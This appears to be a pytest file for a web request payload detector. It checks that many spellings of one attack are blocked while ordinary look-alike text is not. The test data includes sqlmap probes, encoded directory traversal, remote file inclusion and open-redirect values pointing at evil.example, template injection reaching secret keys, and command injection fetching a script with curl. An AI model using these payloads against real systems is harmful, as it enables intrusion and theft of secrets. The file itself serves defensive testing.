"""Coverage by how attacks are written: spellings of one technique blocked together, the benign look-alikes not.

Each test takes one phenomenon (a climb out of a directory written as no
path is, a tool's first probe, a redirect's spellings) and checks several
spellings of it, written here, against the same verdict, and the ordinary
text that looks most like it against the opposite one.
"""
from __future__ import annotations

import random
from urllib.parse import quote

import pytest

from smartlayer.detectors.payload import scan_parts

BLOCK = 3


def query(value: str):
    return scan_parts(query_string="q=" + quote(value, safe=""))


def names(result) -> set[str]:
    return {hit.split("@", 1)[0] for hit in result.hits}


# ── sqlmap's first requests ────────────────────────────────────────────────

def _heuristic_probe(rng: random.Random) -> str:
    """sqlmap's heuristic check: ten characters of ``'"(),.`` with exactly one quote of each kind."""
    while True:
        junk = "".join(rng.choice("'\"(),.") for _ in range(10))
        if junk.count("'") == 1 and junk.count('"') == 1:
            return junk


@pytest.mark.parametrize("seed", range(12))
def test_sqlmaps_heuristic_probe_is_blocked_whatever_its_draw(seed):
    value = "7" + _heuristic_probe(random.Random(seed))
    result = query(value)
    assert result.score >= BLOCK, (value, result.hits)


@pytest.mark.parametrize("value", ["it's \"great\".", "f('a'),", "Hello, \"world\".)", "(see 'a' and \"b\").",
                                   "say \"hi\" (and 'bye').", "a'\"", "x.'\"", "''"])
def test_quotes_and_brackets_of_ordinary_text_are_no_probe(value):
    assert "sqli_syntax_probe" not in names(query(value))


@pytest.mark.parametrize("value", ["1'wQzR<'\">kTbn", "5<\"'>", "'';!--\"<q>=&{()}"])
def test_probes_for_unescaped_output_are_blocked(value):
    assert query(value).score >= BLOCK


# ── climbing out of a directory, however it is written ─────────────────────

@pytest.mark.parametrize("value", [
    "../", "/../", "..\\", "..//x", "..;/x", ".\\..\\.\\..\\x", ".//..//.//..//x", "./.././../x",
    "/........./x", "/./\\/./", "..0x5cx", "..2f..2fx", "..2fetc2fhosts", "..%%32%%66..%%32%%66x",
    "Li4vLi4vYXBwLmluaQ==", "L2V0Yy9ncm91cA==", "ZXRjL2hvc3Rz",
])
def test_a_climb_is_blocked_in_a_short_value_whatever_its_spelling(value):
    result = query(value)
    assert result.score >= BLOCK, (value, result.hits)


@pytest.mark.parametrize("value", [
    "see ../README for details", "...", "wait...", "C:\\Users\\me", "rating ***", "1.0.0.1",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln", "what is .bashrc", "Li4v",
])
def test_dots_slashes_and_base64_of_ordinary_values_are_not_blocked(value):
    assert query(value).score < BLOCK


def test_a_file_named_alone_is_a_hint_not_a_block():
    """A bare path is text a form can carry: borderline at paranoia 1, blocked from 2."""
    for value in ("/.bash_history", "C:/unattend.xml", "/etc/master.passwd"):
        assert 0 < query(value).score < BLOCK, value


def test_remote_inclusion_in_a_urls_own_query_counts_with_its_other_pairs():
    """``?page=http://host/x.txt?&cmd=ls``: the ``?`` that turns what the script appends into a query."""
    result = scan_parts(path="/index.php", query_string="page=http://evil.example/x.txt?&cmd=ls")
    assert "rfi_url_trailing_question" in names(result) and result.score >= BLOCK


# ── open redirects: borderline, whatever the spelling ──────────────────────

@pytest.mark.parametrize("value", ["///evil.example/", "////evil.example", "/\t/evil.example", "/\\/evil.example",
                                   "/https://evil.example", "https:evil.example", "https:///evil.example",
                                   "////\\;@evil.example"])
def test_open_redirect_spellings_are_borderline(value):
    result = query(value)
    assert "open_redirect" in names(result) and 0 < result.score < BLOCK, result.hits


@pytest.mark.parametrize("value", ["/account/settings/", "https://example.com/page?x=1", "/", "/blog/2024/"])
def test_local_paths_and_plain_urls_are_no_redirect_probe(value):
    assert query(value).score == 0


@pytest.mark.parametrize("value", ["http://0x7f.1/", "http:3627734734", "http://0330.072.0326.0316/"])
def test_a_host_written_as_one_number_is_a_hint(value):
    assert "url_obfuscated_host" in names(query(value))


# ── templates, commands, written-out line breaks ──────────────────────────

@pytest.mark.parametrize("value", ["{{ settings.SECRET_KEY }}", "{{ messages.storages.0.signer.key }}",
                                   "${user.password}", "{{ (1).getClass() }}", "${{<%[%'\"}}%\\."])
def test_templates_reaching_secrets_or_every_engine_at_once_are_blocked(value):
    assert query(value).score >= BLOCK


@pytest.mark.parametrize("value", ["{{ user.name }}", "{{ messages }}", "${price} per month", "{{ user.password_reset_link }}"])
def test_ordinary_template_text_is_not_blocked(value):
    assert query(value).score < BLOCK


@pytest.mark.parametrize("value", ["\\n\\033[2Acurl https://evil.example/x.sh", "\\e[1Asleep 5", ";id\\n", "<id"])
def test_a_terminal_escape_or_written_line_break_separates_a_command(value):
    assert query(value).score >= BLOCK, value


def test_a_written_out_line_break_alone_is_a_hint():
    """Searching how to strip ``\\r\\n`` is ordinary on a developers' site; a header after it is not."""
    assert 0 < query("how to strip \\r\\n in python").score < BLOCK
